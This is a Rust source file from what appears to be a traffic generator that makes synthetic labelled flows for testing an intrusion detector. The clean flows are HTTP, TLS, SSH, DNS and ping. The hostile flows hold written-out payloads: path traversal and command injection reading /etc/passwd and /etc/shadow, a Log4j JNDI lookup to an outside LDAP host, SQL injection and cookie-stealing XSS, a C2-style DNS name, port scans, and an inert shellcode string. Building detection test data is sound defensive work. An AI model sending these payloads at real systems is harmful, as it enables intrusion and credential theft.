//! What the flows of generated traffic say: handshakes, requests, answers, queries, scans.
//!
//! Clean text never contains what an attack is known by. Attack text is the least that names the
//! attack: it is meant to be matched, not to work.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use super::packet::{Envelope, Tcp, echo, tcp_flag, udp};
use super::{Attack, Frame, Mix, Random};

use tcp_flag::{ACK, FIN, PSH, RST, SYN};

/// Index of the client's, and of the server's, half of a talk.
const CLIENT: usize = 0;
const SERVER: usize = 1;

/// Makes the frames of one flow, their times counted from the flow's start.
pub fn make(mix: &Mix, random: &mut Random, flow: u32, attack: Option<Attack>) -> Vec<Frame> {
    let from_outside = match attack {
        Some(Attack::ExecutableDownload | Attack::DnsTunnel) => false,
        Some(_) => true,
        None => random.chance(0.3),
    };
    let mut talk = Talk::new(mix, random, flow, attack, from_outside);
    match attack {
        Some(attack) => talk.attack(attack),
        None => talk.clean(mix),
    }
    talk.frames
}

/// One flow being made.
struct Talk<'a> {
    random: &'a mut Random,
    frames: Vec<Frame>,
    flow: u32,
    attack: Option<Attack>,
    /// Port by which the client's, and the server's, frames enter.
    entry: [u8; 2],
    envelopes: [Envelope; 2],
    ports: [u16; 2],
    /// Next sequence number of each half.
    seq: [u32; 2],
    stamps: bool,
    /// Time stamp value that each end sent last.
    stamped: [u32; 2],
    lossy: bool,
    response_bytes_max: u32,
    now_ns: u64,
}

fn address(v6: bool, inside: bool, host: u16) -> IpAddr {
    match (v6, inside) {
        (false, true) => Ipv4Addr::new(10, 20, (host >> 8) as u8, host as u8).into(),
        (false, false) => Ipv4Addr::new(198, 51, 100, host as u8).into(),
        (true, true) => Ipv6Addr::new(0xfd20, 0, 0, 0, 0, 0, 1, host).into(),
        (true, false) => Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 2, host).into(),
    }
}

impl<'a> Talk<'a> {
    fn new(
        mix: &Mix,
        random: &'a mut Random,
        flow: u32,
        attack: Option<Attack>,
        from_outside: bool,
    ) -> Talk<'a> {
        // Attacks that the IPv4 header matters to stay there.
        let v6 = random.chance(mix.ipv6) && attack != Some(Attack::PingLarge);
        let mut vlans = Vec::new();
        if random.chance(mix.vlan) {
            if random.chance(0.25) {
                vlans.push(random.range(200, 210) as u16);
            }
            vlans.push(random.range(10, 20) as u16);
        }
        let (inside, outside) = ([2, 0, 0, 0, 0, 1], [2, 0, 0, 0, 0, 2]);
        let client_host = random.range(100, 240) as u16;
        let server_host = random.range(10, 30) as u16;
        let client = Envelope {
            src_mac: if from_outside { outside } else { inside },
            dst_mac: if from_outside { inside } else { outside },
            vlans,
            src: address(v6, !from_outside, client_host),
            dst: address(v6, from_outside, server_host),
            id: random.bits() as u32,
        };
        let mut seq = [random.bits() as u32, random.bits() as u32];
        if random.chance(0.1) {
            // Sequence numbers that wrap within the flow.
            seq[SERVER] = u32::MAX - random.range(0, 2000) as u32;
        }
        Talk {
            frames: Vec::new(),
            flow,
            attack,
            entry: if from_outside { [1, 0] } else { [0, 1] },
            envelopes: [client.clone(), client.reversed()],
            ports: [random.range(32_768, 60_999) as u16, 0],
            seq,
            stamps: random.chance(0.6),
            stamped: [0; 2],
            lossy: random.chance(mix.loss),
            response_bytes_max: mix.response_bytes_max,
            now_ns: 0,
            random,
        }
    }

    fn clean(&mut self, mix: &Mix) {
        if self.random.chance(mix.fragments) {
            return self.large_datagram();
        }
        let decoy = self.random.chance(mix.bad_checksum);
        if self.random.chance(mix.udp) {
            return self.dns("www", decoy);
        }
        if self.random.chance(mix.icmp / (1.0 - mix.udp).max(0.01)) {
            return self.ping();
        }
        match self.random.range(0, 100) {
            0..55 => self.http(decoy),
            55..85 => self.tls(decoy),
            _ => self.ssh(decoy),
        }
    }

    fn attack(&mut self, attack: Attack) {
        match attack {
            Attack::PathTraversal => self.request("GET", "/../../../../etc/passwd", ""),
            Attack::PathTraversalEncoded => {
                self.request("GET", "/cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "");
            }
            Attack::PathTraversalSegmented => self.segmented(),
            Attack::Shellcode => self.shellcode(),
            Attack::Log4j => {
                let header = "X-Api-Version: ${jndi:ldap://198.51.100.66:1389/a}\r\n";
                self.request("GET", "/login", header);
            }
            Attack::SqlInjection => {
                let target = "/item?id=1%27+UNION+SELECT+user,password+FROM+users--+";
                self.request("GET", target, "");
            }
            Attack::CrossSiteScripting => {
                self.request(
                    "GET",
                    "/search?q=<script>alert(document.cookie)</script>",
                    "",
                );
            }
            Attack::CommandInjection => {
                self.request("GET", "/ping?host=127.0.0.1;cat%20/etc/shadow", "");
            }
            Attack::ExecutableDownload => self.download(),
            Attack::DnsTunnel => self.dns("c2-4f6e2d.evil", false),
            Attack::ShellcodeFragments => self.shellcode_fragments(),
            Attack::SynFinScan => self.scan(SYN | FIN, 3),
            Attack::NullScan => self.scan(0, 3),
            Attack::PortScan => self.port_scan(),
            Attack::PingLarge => self.ping_large(),
        }
    }

    // --- frames ---

    /// Lets a little time pass.
    fn wait(&mut self, low_us: u64, high_us: u64) {
        self.now_ns += self.random.range(low_us * 1000, high_us * 1000);
    }

    fn push(&mut self, half: usize, bytes: Vec<u8>) {
        self.frames.push(Frame {
            time_ns: self.now_ns,
            port: self.entry[half],
            flow: self.flow,
            attack: self.attack,
            bytes,
        });
        self.wait(10, 120);
    }

    /// A fresh IP identification for each packet of a half.
    fn envelope(&mut self, half: usize) -> &Envelope {
        let envelope = &mut self.envelopes[half];
        envelope.id = envelope.id.wrapping_add(1);
        envelope
    }

    fn tcp(&mut self, half: usize, flags: u8, seq: u32) -> Tcp {
        let milliseconds = (self.now_ns / 1_000_000) as u32;
        // Both ends tick in milliseconds from values of their own; each echoes the very value that
        // it saw last (RFC 7323 4.3), as a receiver checks.
        let own = [7_000_000u32, 18_000_000][half].wrapping_add(milliseconds);
        let seen = self.stamped[1 - half];
        self.stamped[half] = own;
        let stamps = (own, seen);
        let echo = if flags & ACK != 0 { stamps.1 } else { 0 };
        Tcp {
            src_port: self.ports[half],
            dst_port: self.ports[1 - half],
            seq,
            ack: if flags & ACK != 0 {
                self.seq[1 - half]
            } else {
                0
            },
            flags,
            window: 64_240,
            stamps: self.stamps.then_some((stamps.0, echo)),
        }
    }

    fn send(&mut self, half: usize, flags: u8, seq: u32, payload: &[u8]) {
        let tcp = self.tcp(half, flags, seq);
        let frame = tcp.frame(self.envelope(half), payload);
        self.push(half, frame);
    }

    /// The same with one bit of the transport checksum wrong and other bytes: a decoy that every
    /// receiver throws away.
    fn send_decoy(&mut self, half: usize, seq: u32, length: usize) {
        let tcp = self.tcp(half, PSH | ACK, seq);
        let mut frame = tcp.frame(self.envelope(half), &vec![b'X'; length]);
        let at = self.transport_offset() + 16;
        frame[at] ^= 0x40;
        self.push(half, frame);
    }

    fn transport_offset(&self) -> usize {
        let envelope = &self.envelopes[CLIENT];
        14 + 4 * envelope.vlans.len() + if envelope.src.is_ipv6() { 40 } else { 20 }
    }

    /// Payload bytes of a full segment: frames of at most 1,514 bytes, tags included.
    fn segment_bytes(&self) -> usize {
        1514 - self.transport_offset() - if self.stamps { 32 } else { 20 }
    }

    // --- TCP ---

    fn open(&mut self, server_port: u16) {
        self.ports[SERVER] = server_port;
        let [client, server] = self.seq;
        self.send(CLIENT, SYN, client, &[]);
        self.seq[CLIENT] = client.wrapping_add(1);
        self.wait(200, 2000);
        self.send(SERVER, SYN | ACK, server, &[]);
        self.seq[SERVER] = server.wrapping_add(1);
        self.wait(200, 2000);
        self.send(CLIENT, ACK, self.seq[CLIENT], &[]);
    }

    /// One half says `bytes`; lossy flows lose the order and repeat some segments.
    fn say(&mut self, half: usize, bytes: &[u8]) {
        let size = self.segment_bytes();
        let mut pieces: Vec<(usize, usize)> = (0..bytes.len())
            .step_by(size)
            .map(|at| (at, size.min(bytes.len() - at)))
            .collect();
        if self.lossy {
            self.disturb(&mut pieces, bytes.len());
        }
        self.say_pieces(half, bytes, &pieces);
    }

    /// Swaps neighbours, repeats a segment, and repeats the halves of two as one.
    fn disturb(&mut self, pieces: &mut Vec<(usize, usize)>, total: usize) {
        if pieces.len() > 1 {
            let at = self.random.range(0, pieces.len() as u64 - 1) as usize;
            pieces.swap(at, at + 1);
        }
        let at = self.random.range(0, pieces.len() as u64) as usize;
        let (start, length) = pieces[at];
        pieces.insert(at + 1, (start, length));
        let start = start + length / 2;
        if self.random.chance(0.5) && start < total {
            pieces.push((start, length.min(total - start)));
        }
    }

    /// Sends pieces (start, length) of `bytes` in this order, with the other half's
    /// acknowledgements of what is there without a gap.
    fn say_pieces(&mut self, half: usize, bytes: &[u8], pieces: &[(usize, usize)]) {
        let base = self.seq[half];
        let mut have = std::collections::BTreeMap::new();
        let mut contiguous = 0;
        let mut unacknowledged = 0;
        for (start, length) in pieces {
            let last = start + length == bytes.len();
            let flags = if last { PSH | ACK } else { ACK };
            let seq = base.wrapping_add(*start as u32);
            self.send(half, flags, seq, &bytes[*start..start + length]);
            have.insert(*start, start + length);
            let before = contiguous;
            for (start, end) in &have {
                if *start <= contiguous {
                    contiguous = contiguous.max(*end);
                }
            }
            self.seq[half] = base.wrapping_add(contiguous as u32);
            unacknowledged += 1;
            let gap = contiguous == before;
            if gap || unacknowledged == 2 || last {
                unacknowledged = 0;
                self.send(1 - half, ACK, self.seq[1 - half], &[]);
            }
        }
    }

    fn close(&mut self) {
        if self.random.chance(0.15) {
            self.send(CLIENT, RST | ACK, self.seq[CLIENT], &[]);
            return;
        }
        let first = self.random.range(0, 2) as usize;
        for half in [first, 1 - first] {
            self.send(half, FIN | ACK, self.seq[half], &[]);
            self.seq[half] = self.seq[half].wrapping_add(1);
        }
        self.send(first, ACK, self.seq[first], &[]);
    }

    // --- clean flows ---

    fn http(&mut self, decoy: bool) {
        self.open(80);
        for number in 0..self.random.range(1, 4) {
            let page = self.random.range(0, 500);
            let request = format!(
                "GET /page/{page}.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: \
                 Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html\r\nCookie: visit={number}\
                 \r\n\r\n"
            );
            if decoy {
                self.send_decoy(CLIENT, self.seq[CLIENT], request.len());
            }
            self.say(CLIENT, request.as_bytes());
            self.wait(300, 5000);
            let response = self.page();
            self.say(SERVER, &response);
        }
        self.close();
    }

    fn page(&mut self) -> Vec<u8> {
        const WORDS: [&str; 12] = [
            "water", "gate", "river", "level", "canal", "lock", "stone", "weir", "bank", "tide",
            "flow", "basin",
        ];
        // Most answers are small, some are large: the square of a uniform number.
        let share = self.random.range(0, 1000).pow(2);
        let length = 100 + u64::from(self.response_bytes_max) * share / 1_000_000;
        let mut body = String::from("<html><body><p>");
        while (body.len() as u64) < length {
            body.push_str(self.random.pick::<&str>(&WORDS));
            body.push(' ');
        }
        body.push_str("</p></body></html>\n");
        format!(
            "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: \
             {}\r\n\r\n{body}",
            body.len()
        )
        .into_bytes()
    }

    fn tls(&mut self, decoy: bool) {
        self.open(443);
        let hello = client_hello(self.random, "www.example.com");
        if decoy {
            self.send_decoy(CLIENT, self.seq[CLIENT], hello.len());
        }
        self.say(CLIENT, &hello);
        self.wait(300, 3000);
        // Server hello, change cipher spec, and records that look random, as ciphertext does.
        let mut answer = server_hello(self.random);
        answer.extend([0x14, 3, 3, 0, 1, 1]);
        let size = self
            .random
            .range(500, u64::from(self.response_bytes_max).max(501));
        answer.extend(application_data(self.random, size as usize));
        self.say(SERVER, &answer);
        let request = application_data(self.random, 180);
        self.say(CLIENT, &request);
        let answer = application_data(self.random, 700);
        self.say(SERVER, &answer);
        self.close();
    }

    fn ssh(&mut self, decoy: bool) {
        self.open(22);
        self.say(SERVER, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n");
        if decoy {
            self.send_decoy(CLIENT, self.seq[CLIENT], 23);
        }
        self.say(CLIENT, b"SSH-2.0-OpenSSH_9.7p1\r\n");
        for _ in 0..self.random.range(2, 12) {
            let half = self.random.range(0, 2) as usize;
            let bytes = noise(self.random, 36);
            self.say(half, &bytes);
        }
        self.close();
    }

    fn dns(&mut self, name: &str, decoy: bool) {
        self.ports[SERVER] = 53;
        let id = self.random.bits() as u16;
        let query = dns_message(id, name, false);
        if decoy {
            let datagram = udp(&self.envelopes[CLIENT], self.ports[CLIENT], 53, &query);
            let mut frame = self.envelope(CLIENT).frame(17, &datagram);
            let at = self.transport_offset() + 6;
            frame[at] ^= 0x40;
            self.push(CLIENT, frame);
        }
        self.datagram(CLIENT, &query);
        self.wait(200, 20_000);
        self.datagram(SERVER, &dns_message(id, name, true));
    }

    fn datagram(&mut self, half: usize, payload: &[u8]) {
        let (src_port, dst_port) = (self.ports[half], self.ports[1 - half]);
        let envelope = self.envelope(half);
        let frame = envelope.frame(17, &udp(envelope, src_port, dst_port, payload));
        self.push(half, frame);
    }

    fn ping(&mut self) {
        let id = self.random.bits() as u16;
        for seq in 0..self.random.range(1, 5) as u16 {
            for half in [CLIENT, SERVER] {
                let envelope = self.envelope(half);
                let (protocol, message) = echo(envelope, half == SERVER, id, seq, &[b'a'; 56]);
                let frame = envelope.frame(protocol, &message);
                self.push(half, frame);
                self.wait(200, 3000);
            }
            self.wait(10_000, 20_000);
        }
    }

    /// A datagram of several fragments, half of the time out of order.
    fn large_datagram(&mut self) {
        self.ports[SERVER] = 9000;
        let payload = noise(self.random, 3900);
        let size = 1400;
        self.fragmented(&payload, size);
    }

    fn fragmented(&mut self, payload: &[u8], size: usize) {
        let ports = self.ports;
        let envelope = self.envelope(CLIENT);
        let datagram = udp(envelope, ports[CLIENT], ports[SERVER], payload);
        let mut fragments = envelope.fragments(17, &datagram, size);
        if self.random.chance(0.5) {
            fragments.reverse();
        }
        for fragment in fragments {
            self.push(CLIENT, fragment);
        }
    }

    // --- hostile flows ---

    fn request(&mut self, method: &str, target: &str, headers: &str) {
        self.open(80);
        let request = format!(
            "{method} {target} HTTP/1.1\r\nHost: intranet.example\r\nUser-Agent: curl/8.5.0\r\n\
             {headers}Accept: */*\r\n\r\n"
        );
        self.say(CLIENT, request.as_bytes());
        self.wait(300, 3000);
        self.say(
            SERVER,
            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
        );
        self.close();
    }

    /// The traversal in segments of 7 bytes, neighbours swapped.
    fn segmented(&mut self) {
        self.open(80);
        let request = b"GET /../../../../etc/passwd HTTP/1.1\r\nHost: intranet.example\r\n\r\n";
        let mut pieces: Vec<(usize, usize)> = (0..request.len())
            .step_by(7)
            .map(|at| (at, 7.min(request.len() - at)))
            .collect();
        for pair in pieces.chunks_exact_mut(2) {
            pair.swap(0, 1);
        }
        self.say_pieces(CLIENT, request, &pieces);
        self.say(
            SERVER,
            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
        );
        self.close();
    }

    fn shellcode(&mut self) {
        self.open(2323);
        self.say(CLIENT, &shellcode_text());
        self.send(SERVER, RST | ACK, self.seq[SERVER], &[]);
    }

    fn shellcode_fragments(&mut self) {
        self.ports[SERVER] = 9999;
        self.fragmented(&shellcode_text(), 64);
    }

    fn download(&mut self) {
        self.open(80);
        self.say(
            CLIENT,
            b"GET /update.exe HTTP/1.1\r\nHost: files.example\r\n\r\n",
        );
        let mut program = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
        program.resize(78, 0);
        program.extend(b"This program cannot be run in DOS mode.\r\r\n$");
        program.resize(1800, 0);
        let mut response = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: \
             {}\r\n\r\n",
            program.len()
        )
        .into_bytes();
        response.extend(program);
        self.say(SERVER, &response);
        self.close();
    }

    fn scan(&mut self, flags: u8, count: u16) {
        self.stamps = false;
        for port in 0..count {
            self.ports[SERVER] = 22 + port;
            self.send(CLIENT, flags, self.seq[CLIENT], &[]);
        }
    }

    fn port_scan(&mut self) {
        self.stamps = false;
        for port in 1..=40 {
            self.ports[SERVER] = port * 25;
            let [client, _] = self.seq;
            self.send(CLIENT, SYN, client, &[]);
            self.seq[CLIENT] = client.wrapping_add(1);
            self.send(SERVER, RST | ACK, 0, &[]);
        }
    }

    fn ping_large(&mut self) {
        let envelope = self.envelope(CLIENT);
        let (protocol, message) = echo(envelope, false, 666, 1, &[b'P'; 8000]);
        for fragment in envelope.fragments(protocol, &message, 1400) {
            self.push(CLIENT, fragment);
        }
    }
}

fn noise(random: &mut Random, length: usize) -> Vec<u8> {
    (0..length).map(|_| random.bits() as u8).collect()
}

/// No-operation sled and the string that shellcode carries; it does nothing.
fn shellcode_text() -> Vec<u8> {
    let mut text = vec![0x90; 128];
    text.extend(b"\x31\xc0\x50\x68//sh\x68/bin/bin/sh\0-c id");
    text
}

/// A DNS query or answer (RFC 1035) for `name`.example.
fn dns_message(id: u16, name: &str, answer: bool) -> Vec<u8> {
    let mut message = id.to_be_bytes().to_vec();
    message.extend(if answer { [0x81, 0x80] } else { [0x01, 0x00] });
    message.extend([0, 1, 0, u8::from(answer), 0, 0, 0, 0]);
    for label in name.split('.').chain(["example"]) {
        message.push(label.len() as u8);
        message.extend(label.bytes());
    }
    message.extend([0, 0, 1, 0, 1]);
    if answer {
        message.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 198, 51, 100, 7]);
    }
    message
}

/// A TLS record around a handshake message (RFC 8446 4, 5.1).
fn handshake(kind: u8, body: &[u8]) -> Vec<u8> {
    let mut record = vec![0x16, 3, 1];
    record.extend((body.len() as u16 + 4).to_be_bytes());
    record.push(kind);
    record.extend(&(body.len() as u32).to_be_bytes()[1..]);
    record.extend(body);
    record
}

fn client_hello(random: &mut Random, name: &str) -> Vec<u8> {
    let mut body = vec![3, 3];
    body.extend(noise(random, 32));
    body.push(0);
    // TLS_AES_128_GCM_SHA256, TLS_AES_256_GCM_SHA384; no compression.
    body.extend([0, 4, 0x13, 0x01, 0x13, 0x02, 1, 0]);
    let length = name.len() as u16;
    let mut extensions = vec![0, 0];
    extensions.extend((length + 5).to_be_bytes());
    extensions.extend((length + 3).to_be_bytes());
    extensions.push(0);
    extensions.extend(length.to_be_bytes());
    extensions.extend(name.bytes());
    // supported_versions: TLS 1.3.
    extensions.extend([0, 43, 0, 3, 2, 3, 4]);
    body.extend((extensions.len() as u16).to_be_bytes());
    body.extend(extensions);
    handshake(1, &body)
}

fn server_hello(random: &mut Random) -> Vec<u8> {
    let mut body = vec![3, 3];
    body.extend(noise(random, 32));
    body.extend([0, 0x13, 0x01, 0, 0, 6, 0, 43, 0, 2, 3, 4]);
    handshake(2, &body)
}

/// Records of random bytes, `length` of them in all.
fn application_data(random: &mut Random, length: usize) -> Vec<u8> {
    const RECORD_MAX: usize = 16_384;
    let mut data = Vec::with_capacity(length + 64);
    let mut left = length;
    while left > 0 {
        let piece = left.min(RECORD_MAX);
        data.extend([0x17, 3, 3]);
        data.extend((piece as u16).to_be_bytes());
        data.extend(noise(random, piece));
        left -= piece;
    }
    data
}
